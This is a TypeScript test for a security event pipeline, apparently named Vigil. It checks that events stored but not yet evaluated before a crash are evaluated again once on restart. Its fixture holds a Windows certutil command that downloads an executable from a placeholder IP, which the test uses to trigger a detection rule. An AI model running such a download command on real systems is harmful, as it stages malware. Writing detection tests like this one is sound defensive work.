/**
 * A crash between the store append and evaluation (ADR 0006) no longer loses evaluation: the
 * next start evaluates again what was stored after the detection checkpoint, and a graceful
 * stop leaves nothing to redo.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { MetricsRegistry } from '../core/metrics.js';
import { newEventId } from '../core/ids.js';
import type { VigilEvent } from '../core/event.js';
import { parseConfig } from '../config/load.js';
import { openProcessingStack, type ProcessingStack } from './processing-stack.js';

const YAML = 'enrich:\n  enabled: false\ndetection:\n  recovery_lookback_ms: 0\n';
const CERTUTIL = {
  native: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe', User: 'CORP\\bob' },
  logsource: { product: 'windows', category: 'process_creation' },
};

async function open(dir: string): Promise<{ stack: ProcessingStack; metrics: MetricsRegistry }> {
  const config = parseConfig(YAML, 'vigil.yaml', { data_dir: dir });
  const metrics = new MetricsRegistry();
  return { stack: await openProcessingStack(config, pino({ level: 'silent' }), metrics, 'test'), metrics };
}

const recovered = (metrics: MetricsRegistry): number => Number(/^vigil_detection_recovered_events_total(?:\{\})? (\d+)/m.exec(metrics.renderPrometheus())?.[1] ?? 0);
const certutilAlerts = async (stack: ProcessingStack): Promise<number> =>
  Number((await stack.control.all<{ n: number }>("SELECT count(*) AS n FROM respond_alerts WHERE rule_title = 'Certutil downloading a file'"))[0].n);

test('detection resumes after a crash: stored but unevaluated events are evaluated on the next start, once', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-recovery-'));
  try {
    // The record fires through the normal path: the shape is one the rule matches.
    const a = await open(dir);
    await a.stack.pipeline.accept({ source: 'test', format: 'json', records: [{ ts: Date.now(), fields: { 'process.name': 'certutil.exe' }, ...CERTUTIL }], rejected: [] });
    await a.stack.close();

    const b = await open(dir);
    assert.equal(recovered(b.metrics), 0, 'a graceful stop leaves nothing to evaluate again');
    const alertsBefore = await certutilAlerts(b.stack);
    assert.equal(alertsBefore, 1);
    // Stored, then the process dies before detection sees it: appended behind the pipeline's back,
    // and the stack is abandoned without its graceful drain.
    const t = Date.now();
    const stored: VigilEvent = { id: newEventId(t), ts: t, fields: { 'host.name': 'ws-9' }, native: { ...CERTUTIL.native, User: 'CORP\\eve' }, meta: { source: 'test', format: 'json', ingestTime: t + 1, logsource: CERTUTIL.logsource } };
    await b.stack.store.append([stored]);
    await b.stack.alerts?.close();
    await b.stack.store.close();

    const c = await open(dir);
    // The event stored after the checkpoint, and the first one again: it is in the checkpoint's own
    // millisecond, which is evaluated again in case more events were stored in it (at-least-once).
    assert.equal(recovered(c.metrics), 2);
    assert.equal(await certutilAlerts(c.stack), 2, "the new event's alert exists now; the repeat joined its earlier alert");
    await c.stack.close();

    const d = await open(dir);
    assert.equal(recovered(d.metrics), 0);
    assert.equal(await certutilAlerts(d.stack), 2, 'no repeat after a graceful stop');
    await d.stack.close();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
